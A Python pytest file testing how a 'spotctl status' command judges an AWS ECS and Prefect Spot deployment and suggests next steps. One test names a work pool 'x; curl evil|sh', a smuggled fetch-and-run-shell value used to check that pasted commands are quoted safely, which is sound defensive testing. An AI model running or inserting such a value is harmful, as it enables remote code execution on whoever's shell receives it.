"""How `spotctl status` judges what it finds: a row per judgement."""

from collections.abc import Mapping
from dataclasses import replace
from decimal import Decimal
from http.server import BaseHTTPRequestHandler
from types import SimpleNamespace
from typing import Any, Final
from uuid import UUID, uuid4

import pytest

from chalicelib.adapters.prefect_client import JsonHttp
from chalicelib.core.model.policy import Mode, Pause
from chalicelib.core.model.pricing import read_own_rates
from chalicelib.core.model.sweeping import Place, SweepNotes, Unjudged
from chalicelib.errors import PrefectRefusedError
from spotctl.output import Exit, Row, State, exit_of, failed, ok, warning
from spotctl.prefect import Deployment, OperatorPrefect, Worker, WorkPool
from spotctl.status import deployments, handler, observers, prefect_side, provisioning, stack
from spotctl.status.provisioning import Provisioned
from tests.make import NOW, seconds
from tests.unit.scripted_server import ScriptedServer, Step, answer, answer_raw

QUEUE = "arn:aws:sqs:us-east-1:111122223333:prefect-spot-dev-failures"
SIGTERM = "PREFECT_FLOW_RUN_EXECUTE_SIGTERM_BEHAVIOR"
OK, WARNING, FAILED = State.OK, State.WARNING, State.FAILED


CA, HEADERS = "PREFECT_CA_CERTIFICATE_PARAMETER", "PREFECT_CUSTOM_HEADERS_PARAMETER"


def make_project(*, is_rescue_only: bool = False, **changes: Any) -> Any:
    """The stage's settings, as far as they are judged by."""
    ordinary = {"prefect_api_url": "http://prefect/api", "work_pools": ("spot",), "use_spot": True}
    ordinary |= {"ecs_clusters": ("prefect-spot-dev",), "mode": Mode.RESCUE}
    ordinary["worker_image"] = "prefecthq/prefect-aws:0.7.12-python3.12-prefect3.8.8"
    ordinary |= {"architecture": "x86_64", "rates": {}, "assumed_spot_discount": Decimal("0.68")}
    return SimpleNamespace(
        stack="prefect-spot-dev",
        failure_queue="failures",
        is_rescue_only=is_rescue_only,
        settings=SimpleNamespace(**{**ordinary, **changes}),
    )


PROJECT: Final = make_project()
ON_DEMAND: Final = make_project(use_spot=False)
ARM: Final = make_project(architecture="arm64")
RESCUE_ONLY: Final = make_project(is_rescue_only=True)
OBSERVE: Final = make_project(mode=Mode.OBSERVE)


def stack_rows(project: Any = PROJECT, **changes: Any) -> list[Row]:
    ordinary = stack.Found(
        stack_status="CREATE_COMPLETE",
        stack_reason="",
        clusters=(stack.Cluster("spot", "ACTIVE", ("FARGATE", "FARGATE_SPOT")),),
        service=stack.Service(1, 1, "COMPLETED"),
        region="us-east-1",
    )
    return stack.rows(replace(ordinary, **changes), project)


def cluster_rows(*cluster: Any, project: Any = PROJECT) -> list[Row]:
    return stack_rows(project, clusters=(stack.Cluster("spot", *cluster),))


def rates_rows(region: str, rates: str = "") -> list[Row]:
    return stack_rows(make_project(rates=read_own_rates(rates)), region=region)


def service_rows(*service: Any) -> list[Row]:
    return stack_rows(service=stack.Service(*service))


RULE: Final = handler.Rule("r", is_enabled=True, dead_letter_arn=QUEUE)
FUNCTION: Final = handler.Function("react", "Active", rules=(RULE,), failures_to=QUEUE)


def handler_rows(**changes: Any) -> list[Row]:
    ordinary = handler.Found(
        functions=(FUNCTION,),
        queue=handler.Queue(QUEUE, waiting=0, taken=0),
        swept=SweepNotes(swept_at=NOW - seconds(120)),
        now=NOW,
    )
    return handler.rows(replace(ordinary, **changes), PROJECT)


def swept_rows(**changes: Any) -> list[Row]:
    return handler_rows(swept=replace(SweepNotes(swept_at=NOW - seconds(120)), **changes))


def function_rows(**changes: Any) -> list[Row]:
    return handler_rows(functions=(replace(FUNCTION, **changes),))


def rule_rows(**changes: Any) -> list[Row]:
    return function_rows(rules=(replace(RULE, **changes),))


def without_queue() -> list[Row]:
    """Two things that are missing are not the same thing."""
    function = replace(FUNCTION, failures_to="", rules=(replace(RULE, dead_letter_arn=""),))
    return handler_rows(functions=(function,), queue=None)


def make_template(launch_type: str = "FARGATE_SPOT", **container: Any) -> dict[str, Any]:
    ordinary = {
        "name": "{{ container_name }}",
        "stopTimeout": 120,
        "environment": [{"name": SIGTERM, "value": "relinquish"}],
    }
    return {
        "job_configuration": {
            "task_definition": {"containerDefinitions": [{**ordinary, **container}]},
            "task_run_request": {"launchType": "{{ launch_type }}"},
        },
        "variables": {
            "properties": {
                "launch_type": {"default": launch_type},
                "cluster": {"default": "prefect-spot-dev"},
                "image": {"default": "prefecthq/prefect:3-latest"},
            }
        },
    }


POOL: Final = WorkPool("spot", "ecs", "READY", is_paused=False, template=make_template())


WORKER: Final = Worker("ECSWorker 1", True, NOW - seconds(7), "3.8.8")


def prefect_rows(project: Any = PROJECT, **changes: Any) -> list[Row]:
    ordinary = prefect_side.Found(
        parameters=(prefect_side.Parameter("/key", "PREFECT_API_KEY_PARAMETER", "SecureString"),),
        now=NOW,
        version="3.8.8",
        pools=(prefect_side.Pool("spot", POOL, (WORKER,)),),
    )
    return prefect_side.rows(replace(ordinary, **changes), project)


def parameter_rows(kind: str, setting: str = "PREFECT_API_KEY_PARAMETER") -> list[Row]:
    return prefect_rows(parameters=(prefect_side.Parameter("/key", setting, kind),))


def pool_rows(project: Any = PROJECT, **changes: Any) -> list[Row]:
    pool = prefect_side.Pool("spot", replace(POOL, **changes), (WORKER,))
    return prefect_rows(project, pools=(pool,))


def no_pool_rows() -> list[Row]:
    return prefect_rows(pools=(prefect_side.Pool("spot", None),))


def worker_rows(*workers: Worker) -> list[Row]:
    return prefect_rows(pools=(prefect_side.Pool("spot", POOL, workers),))


def template_rows(**container: Any) -> list[Row]:
    return pool_rows(template=make_template(**container))


def with_image(image: str | None) -> dict[str, Any]:
    template = make_template()
    template["variables"]["properties"]["image"] = {"default": image}
    return template


def with_platform(architecture: str) -> dict[str, Any]:
    template = make_template()
    platform = {"cpuArchitecture": architecture}
    template["job_configuration"]["task_definition"]["runtimePlatform"] = platform
    return template


def request_rows(**request: Any) -> list[Row]:
    """Judge a pool whose template asks ECS for this."""
    template = make_template()
    template["job_configuration"]["task_run_request"].update(request)
    return pool_rows(template=template)


def with_strategy(strategy: Any) -> list[Row]:
    return request_rows(capacityProviderStrategy=strategy)


GONE: Final = Worker("ECSWorker 1", False, NOW - seconds(600))
LATE: Final = handler.LATE_SWEEP + seconds(1)
OBSERVER: Final = (observers.Observer("o", "prefect-ecs-tasks-events"),)
REFUSED: Final = PrefectRefusedError("no answer", next_step="check the key")

JUDGED: Final[dict[str, tuple[list[Row], str, State, str]]] = {
    "no stack": (stack_rows(stack_status=""), "stack", FAILED, "there is no stack"),
    "updated": (stack_rows(stack_status="UPDATE_COMPLETE"), "stack", OK, ""),
    "updating": (stack_rows(stack_status="UPDATE_IN_PROGRESS"), "stack", WARNING, ""),
    "rolled back": (
        stack_rows(stack_status="UPDATE_ROLLBACK_COMPLETE"), "stack", WARNING, "rolled back",
    ),
    "not created": (stack_rows(stack_status="ROLLBACK_COMPLETE"), "stack", FAILED, ""),
    "stuck": (stack_rows(stack_status="UPDATE_ROLLBACK_FAILED"), "stack", FAILED, ""),
    "unknown cluster": (cluster_rows(), "cluster spot", FAILED, "does not know it"),
    "inactive": (cluster_rows("INACTIVE"), "cluster spot", FAILED, "INACTIVE"),
    "no Spot": (cluster_rows("ACTIVE", ("FARGATE",)), "cluster spot", FAILED, "lacks the capacity"),
    "no Spot, as set": (
        cluster_rows("ACTIVE", ("FARGATE",), project=ON_DEMAND), "cluster spot", OK, "",
    ),
    "no service": (stack_rows(service=None), "worker service", FAILED, "no service"),
    "nothing runs": (service_rows(0, 1, "", "no place"), "worker service", FAILED, "no place"),
    "scaled to 0": (service_rows(0, 0, "COMPLETED"), "worker service", FAILED, "scaled to 0"),
    "rollout failed": (service_rows(1, 1, "FAILED"), "worker service", FAILED, "rollout failed"),
    "rolling out": (service_rows(1, 1, "IN_PROGRESS"), "worker service", WARNING, "in_progress"),
    "rates known": (rates_rows("us-east-1"), "rates", OK, "x86_64: aws.amazon.com/fargate"),
    "rates assumed": (
        rates_rows("eu-central-1"), "rates", WARNING,
        "Spot in eu-central-1: x86_64: assumed: on-demand less 68 %",
    ),
    "one of two assumed": (
        rates_rows("ap-south-1", "ap-south-1/arm64/FARGATE_SPOT=0.01/0.001"), "rates", WARNING,
        "x86_64: assumed: on-demand less 68 %; arm64: the setting RATES",
    ),
    "own rates": (
        rates_rows("sa-east-1", "sa-east-1/x86_64/FARGATE_SPOT=0.02/0.002"), "rates", OK, "RATES",
    ),
    "no rates": (rates_rows("mars-1"), "rates", WARNING, "without amounts"),
    "no rates of the architecture": (
        stack_rows(ARM, region="eu-central-1"), "rates", WARNING, "none for arm64, so tasks",
    ),
    "contradicting rates": (
        rates_rows("us-east-1", "us-east-1/x86_64/FARGATE=0.01/0.001"), "rates", FAILED,
        "RATES contradict",
    ),
    "not deployed": (function_rows(status=""), "function react", FAILED, "not deployed"),
    "broken": (function_rows(status="Failed"), "function react", FAILED, "Failed"),
    "held": (function_rows(is_held=True), "function react", FAILED, "concurrency of 0"),
    "no rule": (function_rows(rules=()), "function react", FAILED, "no rule invokes it"),
    "no destination": (function_rows(failures_to=""), "function react", WARNING, "is lost"),
    "other destination": (function_rows(failures_to="x"), "function react", WARNING, "goes to x"),
    "scheduled": (function_rows(name="x-sweep", failures_to=""), "function x-sweep", OK, "again"),
    "scheduled, and kept": (function_rows(name="x-sweep"), "function x-sweep", WARNING, "fill"),
    "schedule": (
        function_rows(name="x-sweep", rules=(replace(RULE, dead_letter_arn=""),)),
        "rule r", OK, "enabled",
    ),
    "schedule, and kept": (function_rows(name="x-sweep"), "rule r", WARNING, "failures fill"),
    "rule disabled": (rule_rows(is_enabled=False), "rule r", FAILED, "disabled"),
    "no dead letters": (rule_rows(dead_letter_arn=""), "rule r", WARNING, "no dead-letter queue"),
    "no queue": (without_queue(), "failure queue", FAILED, "there is no queue failures"),
    "neither queue nor destination": (without_queue(), "function react", WARNING, "is lost"),
    "neither queue nor dead letters": (without_queue(), "rule r", WARNING, "is lost"),
    "failures": (
        handler_rows(queue=handler.Queue(QUEUE, waiting=3, taken=1)), "failure queue", WARNING,
        "3 events could not be handled, 1 more are being redriven",
    ),
    "swept": (handler_rows(), "last sweep", OK, "2 min ago, it read all runs"),
    "no sweep": (swept_rows(swept_at=None), "last sweep", WARNING, "none"),
    "a paused stage": (
        swept_rows(swept_at=NOW - LATE, pause=Pause(NOW, "an ARN")), "pause", WARNING, "by an ARN",
    ),
    "out of time": (swept_rows(bookmark=Place(1)), "last sweep", WARNING, "it timed out"),
    "a late sweep": (swept_rows(swept_at=NOW - LATE), "last sweep", FAILED, "20 min ago"),
    "not judged": (
        swept_rows(unjudged={UUID(int=n): Unjudged("no ARN", NOW) for n in range(7)}),
        "runs that sweep could not judge", WARNING,
        f"no ARN: {', '.join(str(UUID(int=n)) for n in range(5))} and 2 more",
    ),
    "not billed": (
        swept_rows(unbilled={"arn:1": Unjudged("no size", NOW)}),
        "tasks that sweep could not bill", WARNING, "no size: arn:1",
    ),
    "no credential": (prefect_rows(parameters=()), "credential", OK, "none is set"),
    "credential missing": (parameter_rows(""), "credential", FAILED, "does not exist"),
    "credential plain": (parameter_rows("String"), "credential", FAILED, "plain String"),
    "headers plain": (parameter_rows("String", HEADERS), "custom headers", FAILED, "plain String"),
    "only headers": (parameter_rows("SecureString", HEADERS), "credential", OK, "none is set"),
    "certificate plain": (parameter_rows("String", CA), "CA certificate", OK, "is a String"),
    "certificate missing": (parameter_rows("", CA), "CA certificate", FAILED, "does not exist"),
    "no Prefect": (prefect_rows(error=REFUSED), "Prefect from here", FAILED, "were not read"),
    "no pool": (no_pool_rows(), "work pool spot", FAILED, "does not know it"),
    "no version": (prefect_rows(version=""), "Prefect from here", OK, "unknown (not reported; Pre"),
    "another type": (pool_rows(type="docker"), "work pool spot", FAILED, "of type docker"),
    "a push pool": (
        pool_rows(RESCUE_ONLY, type="ecs:push", status="NOT_READY"),
        "work pool spot", OK, "ecs:push: Prefect Cloud starts its tasks, no worker",
    ),
    "a push pool, all ours": (
        pool_rows(type="ecs:push"), "work pool spot", FAILED, "of type ecs:push, not ecs",
    ),
    "another type, yours": (
        pool_rows(RESCUE_ONLY, type="docker"), "work pool spot", FAILED, "not ecs or ecs:push",
    ),
    "paused": (pool_rows(is_paused=True), "work pool spot", FAILED, "paused"),
    "not ready": (pool_rows(status="NOT_READY"), "work pool spot", WARNING, "is online"),
    "no stopTimeout": (template_rows(stopTimeout=None), "pool: stopTimeout", WARNING, "30 s"),
    "another architecture": (
        prefect_rows(ARM), "pool: architecture", WARNING,
        "flows run on x86_64, and ARCHITECTURE is arm64",
    ),
    "the same architecture": (
        pool_rows(ARM, template=with_platform("ARM64")), "pool: template", OK,
        "arm64; Spot",
    ),
    "an architecture in rescue-only": (
        pool_rows(RESCUE_ONLY, template=with_platform("ARM64")), "pool: template", OK, "arm64",
    ),
    "no SIGTERM": (template_rows(environment=[]), "pool: SIGTERM behaviour", WARNING, "rescued"),
    "SIGTERM, in observe": (
        prefect_rows(OBSERVE), "pool: SIGTERM behaviour", WARNING, "stays Running, and none ends",
    ),
    "no SIGTERM, in observe": (
        pool_rows(OBSERVE, template=make_template(environment=[])), "pool: template", OK, "fit",
    ),
    "observer": (observers.rows(OBSERVER, Mode.OPT_IN), "observer o", WARNING, "marks interrupt"),
    "observer, in observe": (
        observers.rows(OBSERVER, Mode.OBSERVE), "other observers", OK, "go on marking runs Crashed",
    ),
    "on demand": (template_rows(launch_type="FARGATE"), "pool: capacity", WARNING, "on FARGATE"),
    "cannot move": (
        request_rows(launchType="FARGATE_SPOT"), "pool: launch type", FAILED, "cannot be moved",
    ),
    "cannot move either": (
        with_strategy([{"capacityProvider": "FARGATE_SPOT"}]), "pool: strategy", FAILED, "moved",
    ),
    "an empty strategy": (with_strategy([]), "pool: strategy", FAILED, "wins over launch_type"),
    "a strategy of another variable": (
        with_strategy("{{ mine }}"), "pool: strategy", FAILED, "cannot be moved",
    ),
    "a strategy by the variable": (
        with_strategy("{{capacity_provider_strategy}}"), "pool: template", OK, "Spot",
    ),
    "online": (
        prefect_rows(), "worker", OK, "1 online, Prefect 3.8.8; last heartbeat 7 s ago",
    ),
    "versions that fit": (
        prefect_rows(), "versions", OK, "server 3.8.8, worker 3.8.8, pool's image 3",
    ),
    "versions without a server's": (prefect_rows(version=""), "versions", OK, "server unknown"),
    "a worker's image newer than the server": (
        prefect_rows(version="3.8.1"), "worker: image", FAILED, "newer than the server's 3.8.1",
    ),
    "a worker newer than the server": (
        prefect_rows(RESCUE_ONLY, version="3.8.1"), "worker: version", FAILED,
        "runs Prefect 3.8.8, newer than the server's 3.8.1",
    ),
    "a moving image": (
        prefect_rows(make_project(worker_image="prefecthq/prefect-aws:latest")),
        "worker: image", WARNING, "another image at each start",
    ),
    "flows newer than the server": (
        pool_rows(template=with_image("prefecthq/prefect:3.9.1-python3.12")), "versions", WARNING,
        "flows are newer than the server",
    ),
    "flows that are old": (
        pool_rows(template=with_image("prefecthq/prefect:3.4.0")), "versions", WARNING,
        "older than 3.8.1 cannot relinquish",
    ),
    "flows in the worker's image": (
        pool_rows(template=with_image(None)), "versions", OK, "pool's image 3.8.8",
    ),
    "worker gone": (worker_rows(GONE), "worker", FAILED, "last heartbeat 10 min ago"),
    "planned": (provisioning.rows(Provisioned("ready")), "provision", OK, "reach Prefect"),
    "to do": (provisioning.rows(Provisioned("pending", steps=("x",))), "provision", WARNING, "x"),
    "waiting": (provisioning.rows(Provisioned("updating")), "provision", WARNING, "CloudFormation"),
    "a warning": (
        provisioning.rows(Provisioned("ready", warnings=("z",))), "provision", WARNING, "z",
    ),
    "a warning beside steps": (
        provisioning.rows(Provisioned("pending", ("x",), (), ("z",))), "provision", WARNING, "z",
    ),
    "a problem": (provisioning.rows(Provisioned("", problems=("y",))), "provision", FAILED, "y"),
}  # fmt: skip


def the(part: str, rows: list[Row]) -> Row:
    return [row for row in rows if row.part == part][-1]


@pytest.mark.parametrize(("rows", "part", "state", "found"), JUDGED.values(), ids=JUDGED)
def test_a_part_is_judged_and_what_is_not_ok_has_its_next_step(
    rows: list[Row], part: str, state: State, found: str
) -> None:
    row = the(part, rows)
    assert row.state is state
    assert found in row.found
    assert bool(row.next_step) is (state is not State.OK)


def test_of_several_pools_each_is_judged_and_named(monkeypatch: pytest.MonkeyPatch) -> None:
    push = WorkPool("push", "ecs:push", "", is_paused=False, template=make_template("FARGATE"))
    pools = (prefect_side.Pool("spot", POOL, (WORKER,)), prefect_side.Pool("push", push))
    rows = prefect_rows(RESCUE_ONLY, pools=(*pools, prefect_side.Pool("gone", None)))
    assert {row.part: row.state for row in rows if "(" in row.part or "work pool" in row.part} == {
        "work pool spot": OK,
        "pool: template (spot)": OK,
        "worker (spot)": OK,
        "versions (spot)": OK,
        "work pool push": OK,
        "pool: capacity (push)": WARNING,
        "versions (push)": OK,
        "work pool gone": FAILED,
    }


def test_a_command_to_paste_runs_nothing_of_what_the_server_calls_its_pool() -> None:
    row = the("work pool spot", pool_rows(name="x; curl evil|sh", is_paused=True))
    assert row.next_step == "prefect work-pool resume 'x; curl evil|sh'"


NOT_SERVED: Final = {
    "404 of the framework": answer(404, {"detail": "Not Found"}),
    "404 in other words": answer(404, {"message": "no such route"}),
    "404 without words": answer_raw(b"<html>404</html>", 404),
    "403": answer(403, {"detail": "Forbidden"}),
    "405": answer(405, {"detail": "Method Not Allowed"}),
}


def rows_of(refusal: Step, served: Mapping[str, object]) -> tuple[list[Row], set[str]]:
    """Judge a Prefect that serves only this, by path; return the paths that were asked for, too."""

    def serve(at: BaseHTTPRequestHandler) -> None:
        step = answer(200, served[at.path]) if at.path in served else refusal
        step(at)

    with ScriptedServer([serve]) as server:
        context: Any = SimpleNamespace(
            project=make_project(secrets={}),
            prefect=OperatorPrefect(JsonHttp(server.url, lambda _fresh: None, lambda: 5.0)),
            now=lambda: NOW,
        )
        rows = prefect_side.rows(prefect_side.read(context), context.project)
        return rows, {seen.path for seen in server.seen}


@pytest.mark.parametrize("refusal", NOT_SERVED.values(), ids=NOT_SERVED)
def test_without_a_version_as_in_prefect_cloud_all_else_is_looked_at(refusal: Step) -> None:
    """Cloud serves nothing under /admin, and a role may be refused the workers' start events."""
    pool = {"name": "spot", "type": "ecs", "base_job_template": make_template()}
    worker = {"name": "w", "status": "ONLINE", "last_heartbeat_time": NOW.isoformat()}
    served = {"/work_pools/spot": pool, "/work_pools/spot/workers/filter": [worker]}
    served["/work_pools/filter"] = [pool]
    rows, asked = rows_of(refusal, served)
    asked.add("/work_pools/filter")
    assert exit_of(rows) is Exit.OK
    assert the("Prefect from here", rows).found.startswith("version unknown")
    assert the("worker", rows).found == "1 online; last heartbeat 0 s ago"
    assert asked == {*served, "/admin/version", "/events/filter"}


@pytest.mark.parametrize("wording", [wording for wording in NOT_SERVED if "404" in wording])
def test_without_version_and_pool_it_is_a_prefect_only_if_it_has_work_pools(wording: str) -> None:
    rows, _ = rows_of(NOT_SERVED[wording], {})
    assert the("Prefect from here", rows).state is FAILED
    assert the("Prefect from here", rows).next_step.startswith("check PREFECT_API_URL")
    rows, _ = rows_of(NOT_SERVED["404 in other words"], {"/work_pools/filter": []})
    assert the("Prefect from here", rows).state is OK
    assert the("work pool spot", rows).found == "Prefect does not know it"


def test_the_exit_code_is_that_of_the_worst_row() -> None:
    assert exit_of([]) is exit_of([ok("a", ""), warning("b", "", "")]) is Exit.OK
    assert exit_of([ok("a", ""), failed("b", "", "")]) is Exit.FAILED


def test_in_rescue_only_mode_the_users_own_parts_are_neither_expected_nor_deployed() -> None:
    rows = stack_rows(RESCUE_ONLY, service=None)
    assert "worker service" not in {row.part for row in rows}
    row = the("pool: stopTimeout", pool_rows(RESCUE_ONLY, template=make_template(stopTimeout=30)))
    assert row.next_step.startswith("edit the pool's base job template")
    on_demand = pool_rows(ON_DEMAND, template=make_template("FARGATE"))
    assert "pool: capacity" not in {row.part for row in on_demand}


def deployment_rows(
    *tags: str, mine: dict[str, Any] | None = None, project: Any = PROJECT, **variables: Any
) -> list[Row]:
    """Judge one deployment with these job variables; `mine`: a container definition in ECS.

    In it, `architecture` is that of its task definition.
    """
    given = dict(mine or {})
    architecture = given.pop("architecture", "x86_64")
    container = replace(prefect_side.container_of(given), architecture=architecture)
    found = deployments.Found(
        deployments=(Deployment(uuid4(), "etl/x", variables, tags),),
        template=with_platform("{{ cpu_architecture }}"),
        definitions={"mine": container} if mine is not None else {},
    )
    return deployments.rows(found, project)


def with_definition(**container: Any) -> list[Row]:
    return deployment_rows(task_definition_arn="mine", mine=container)


def observed(**variables: Any) -> list[Row]:
    return deployment_rows(project=OBSERVE, **variables)


def opted_in_by(*tags: str) -> list[Row]:
    return deployment_rows(*tags, project=make_project(mode=Mode.OPT_IN))


SPOT_ALONE: Final = [{"capacityProvider": "FARGATE_SPOT", "weight": 1}]
MIXED: Final = [*SPOT_ALONE, {"capacityProvider": "FARGATE", "weight": 1, "base": 1}]
OUR_CLUSTER: Final = "arn:aws:ecs:us-east-1:111122223333:cluster/prefect-spot-dev"
RELINQUISHES: Final = [{"name": SIGTERM, "value": "relinquish"}]
UNSET: Final = f"does not set {SIGTERM}"

DEPLOYMENTS: Final[dict[str, tuple[list[Row], tuple[str, ...]]]] = {
    "as the pool has it": (deployment_rows(), ()),
    "on demand": (deployment_rows(launch_type="FARGATE"), ("on demand",)),
    "EC2": (deployment_rows(launch_type="EC2"), ("EC2 is never rescued",)),
    "mixed": (deployment_rows(capacity_provider_strategy=MIXED), ("overrides launch_type",)),
    "Spot alone": (deployment_rows(capacity_provider_strategy=SPOT_ALONE), ()),
    "another cluster": (deployment_rows(cluster="others"), ("not in ECS_CLUSTER",)),
    "our cluster, by its ARN": (deployment_rows(cluster=OUR_CLUSTER), ()),
    "its own SIGTERM behaviour": (deployment_rows(env={SIGTERM: "reschedule"}), (SIGTERM,)),
    "the same SIGTERM behaviour": (deployment_rows(env={SIGTERM: "relinquish"}), ()),
    "unknown definition": (deployment_rows(task_definition_arn="mine"), ("does not know",)),
    "complete definition": (with_definition(stopTimeout=120, environment=RELINQUISHES), ()),
    "short definition": (with_definition(stopTimeout=60), ("gives 60 s to stop", UNSET)),
    "bare definition": (with_definition(), ("gives 30 s to stop", UNSET)),
    "observed": (observed(), ()),
    "observed, with an own SIGTERM behaviour": (observed(env={SIGTERM: "reschedule"}), ()),
    "observed, but it relinquishes": (observed(env={SIGTERM: "relinquish"}), ("MODE is observe",)),
    "observed, but its definition does": (
        observed(
            task_definition_arn="mine", mine={"stopTimeout": 120, "environment": RELINQUISHES}
        ),
        ("MODE is observe",),
    ),
    "budgets and a deadline": (
        deployment_rows("spot-retries:2", "start-retries:0", "spot-deadline:90m", "spot-retries"),
        (),
    ),
    "auto": (deployment_rows("spot-retries:auto"), ()),
    **{
        f"tagged {tag}": (deployment_rows("etl", tag), (f"its tag {tag} is ignored",))
        for tag in (
            *("spot-retries:", "spot-retries:three", "spot-retries:-1", "spot-retries: 2"),
            *("spot-retries:Auto", "spot-retries:1234567", "start-retries:auto", "start-retries:x"),
            *("spot-deadline:soon", "spot-deadline:30m1h"),
        )
    },
    "another architecture": (
        deployment_rows(cpu_architecture="ARM64"),
        ("it runs on arm64, and ARCHITECTURE is x86_64",),
    ),
    "its definition's architecture": (
        with_definition(stopTimeout=120, environment=RELINQUISHES, architecture="arm64"),
        ("it runs on arm64",),
    ),
    "the same architecture": (deployment_rows(cpu_architecture="ARM64", project=ARM), ()),
    "an architecture in rescue-only": (
        deployment_rows(cpu_architecture="ARM64", project=RESCUE_ONLY),
        (),
    ),
    "not opted in": (opted_in_by(), ("not tagged spot:rerun",)),
    "opted in": (opted_in_by("spot:rerun"), ()),
    "protected": (opted_in_by("spot:rerun", "spot:never-rerun"), ("is tagged spot:never-rerun",)),
}


@pytest.mark.parametrize(("rows", "flaws"), DEPLOYMENTS.values(), ids=DEPLOYMENTS)
def test_what_keeps_a_deployment_from_being_rescued_is_named(
    rows: list[Row], flaws: tuple[str, ...]
) -> None:
    overall, *found = rows
    assert overall.found == f"{int(not flaws)} of 1 would be rescued as well as possible"
    assert len(found) == (1 if flaws else 0)
    for row in found:
        assert (row.state, bool(row.next_step)) == (State.WARNING, True)
        parts = row.found.split("; ")
        assert all(flaw in part for flaw, part in zip(flaws, parts, strict=True))


@pytest.mark.parametrize(
    ("image", "is_old"),
    [
        ("docker.io/prefecthq/prefect:2.19.4", True),
        ("prefecthq/prefect:2-latest", True),
        ("prefecthq/prefect:3.7-python3.11", True),
        ("prefecthq/prefect:3.8.0-python3.12", True),
        ("prefecthq/prefect:3.8.1", False),
        ("prefecthq/prefect:3.10.0", False),
        ("prefecthq/prefect:3.8-python3.12", False),
        ("prefecthq/prefect:3-latest", False),
        ("prefecthq/prefect:latest", False),
        ("prefecthq/prefect@sha256:0123", False),
        ("123456789012.dkr.ecr.us-east-1.amazonaws.com/etl:1.2.3", False),
    ],
)
def test_an_image_is_old_only_by_the_tag_of_prefects_own(image: str, is_old: bool) -> None:
    assert ("older than Prefect 3.8.1" in deployment_rows(image=image)[-1].found) is is_old
